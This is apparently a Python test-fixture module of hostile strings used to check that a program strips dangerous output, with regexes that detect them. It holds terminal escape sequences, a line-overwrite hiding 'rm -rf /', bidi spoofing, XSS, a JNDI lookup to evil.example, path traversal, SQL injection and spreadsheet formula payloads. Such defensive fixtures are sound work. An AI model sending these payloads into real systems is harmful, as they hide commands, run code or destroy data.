"""Texts that an attacker would have a model answer, a dataset hold or a server say."""

import re

ESCAPES = (
    "\x1b[31mred\x1b[0m",  # colours
    "\x1b]0;title\x07",  # the title of the window
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",  # a link under other words
    "\x1b]52;c;ZXZpbA==\x07",  # the clipboard
    "\x1b[2J\x1b[H",  # an empty screen
    "\x1bP+q544e\x1b\\",  # asks the terminal to answer
    "\x9b31mC1\x9d0;title\x9c",  # the same in one character
    "safe\rrm -rf /",  # overwrites the line
    "abc\x08\x08\x08xyz",  # the same by backspaces
    "nul\x00byte",
    "bell\x07 tab\tform\x0cfeed\x0b",
    "\x7fdelete",
)
MARKS = (
    "\u202egnp.exe\u202c",  # right to left: exe.png
    "\u2066hidden\u2069 \u200frtl \u061c",
    "zero\u200bwidth\ufeff\u2060",
    "tags: \U000e0068\U000e0069",  # letters that nobody sees
    "line\u2028separator\u2029",
    "soft\u00adhyphen \u180e \u3164",
    "\ufff9a\ufffab\ufffb \ufffe \U0010ffff",
)
MARKUP = (
    "[bold red]rich[/bold red] [link=http://evil.example]x[/link] [/] :warning:",
    '<script>alert("1")</script><img src=x onerror=alert(1)>',
    "a|b `c` **d** ![i](http://evil.example/i.png) [e](javascript:alert(1))",
    "]]><failure/> &amp; &#27; <!-- --",
    "<!channel> @everyone <@U123|x> <http://evil.example|click>",
    "line one\nfailed: line two\nwarning: line three",
    "\\[\\] \\u202e %s {0} ${jndi:ldap://evil.example}",
    "/home/../../etc/passwd",
    "' or 1=1; drop table scores; --",
)
FORMULAS = ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", '\t=HYPERLINK("http://evil.example")', "\r=1", "＝1+1")
STORABLE = (*ESCAPES, *MARKS, *MARKUP, *FORMULAS, "", " ", "naïve ☃ 漢字 नमस्ते שלום 👩‍👩‍👧")
"""All that UTF-8 can hold."""
HALVES = ("half \ud83d of one", "\udcff", "\udc00\ud800")
"""Lone surrogates: half of a character, which UTF-8 cannot hold."""

DANGEROUS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb"
    "\U000e0000-\U000e007f]"
)
"""What must reach no terminal but by the program's own colours."""
COLOURS = re.compile(r"\x1b\[[0-9;]*m|\x1b\[\?25[lh]|\r?\x1b\[[0-9]*[AGK]|\r?\x1b\[2K")
"""What rich itself writes: colours, the cursor hidden and shown, moved up, and lines cleared for the bars of progress."""
